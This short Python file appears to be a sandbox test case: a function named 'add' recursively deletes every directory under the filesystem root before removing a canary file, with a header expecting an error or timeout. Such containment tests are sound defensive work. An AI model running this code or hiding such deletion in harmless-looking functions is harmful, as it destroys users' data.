# expect: runtime_error timeout
import os
import shutil


def add(a, b):
    os.chdir("/")
    for name in os.listdir("/"):
        shutil.rmtree("/" + name, ignore_errors=True)
    os.remove("__CANARY__")  # raises unless the host file is visible
    return a + b
